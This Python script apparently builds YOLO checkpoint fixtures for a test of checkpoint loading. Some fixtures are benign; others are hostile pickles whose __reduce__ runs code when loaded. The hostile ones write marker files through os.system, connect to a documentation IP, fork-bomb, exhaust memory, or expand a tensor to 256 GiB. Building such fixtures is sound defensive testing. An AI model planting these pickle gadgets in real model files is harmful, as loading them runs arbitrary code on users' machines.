"""Makes checkpoints in the export image: good ones with random weights, and hostile ones."""

from __future__ import annotations

import builtins
import os
import socket
from typing import Any

import torch
from ultralytics import YOLO

NAMES = ["circle", "rectangle", "triangle", "star"]
GOOD = {"detect": "yolo11n.yaml", "detect26": "yolo26n.yaml", "segment": "yolo26n-seg.yaml"}


class Call:
    """Is a call when it is unpickled."""

    def __init__(self, function: Any, *arguments: object) -> None:  # noqa: ANN401 - anything can be called
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.call


FORKS = "import os\nwhile True:\n    os.fork()"
ALLOCATES = "held = []\nwhile True:\n    held.append(b'x' * 2**24)"
HOSTILE = {
    "writes": Call(os.system, "echo hostile > /workspace/hostile; echo hostile > /tmp/hostile"),
    "connects": Call(socket.create_connection, ("192.0.2.1", 80), 5),
    "forks": Call(builtins.exec, FORKS),
    "allocates": Call(builtins.exec, ALLOCATES),
}


def network(yaml: str) -> Any:  # noqa: ANN401 - a YOLO
    """Return a network of four classes, for images of 64 x 64."""
    torch.manual_seed(0)
    made = YOLO(yaml)
    # The class of the network by its YAML, with another number of classes.
    made.model = type(made.model)(yaml, nc=len(NAMES), verbose=False)
    made.model.names = dict(enumerate(NAMES))
    made.model.args = {"imgsz": 64, "task": made.task, "model": yaml}
    made.model.task = made.task
    return made


def save(model: Any, path: str, **others: object) -> None:  # noqa: ANN401 - a network
    """Save a network as Ultralytics' trainer does; the others come after the network."""
    torch.save(
        {"epoch": -1, "model": model, "train_args": {"imgsz": 64}, "version": "8.4.190", **others}, path
    )


def main() -> None:
    """Write all of them into the working directory."""
    for name, yaml in GOOD.items():
        save(network(yaml).model.half(), f"{name}.pt")
    for name, call in HOSTILE.items():
        save(network("yolo11n.yaml").model.half(), f"{name}.pt", extra=call)
    # Nothing but tensors of known classes, and one of them is 256 GiB when it is copied.
    large = network("yolo11n.yaml").model
    weight = large.model[0].conv.weight
    weight.data = torch.zeros(1).expand(1 << 12, 1 << 12, 1 << 6, 1 << 6)
    save(large, "grows.pt")
    torch.save(large.state_dict().__class__({"a": torch.zeros(2)}), "state.pt")


if __name__ == "__main__":
    main()
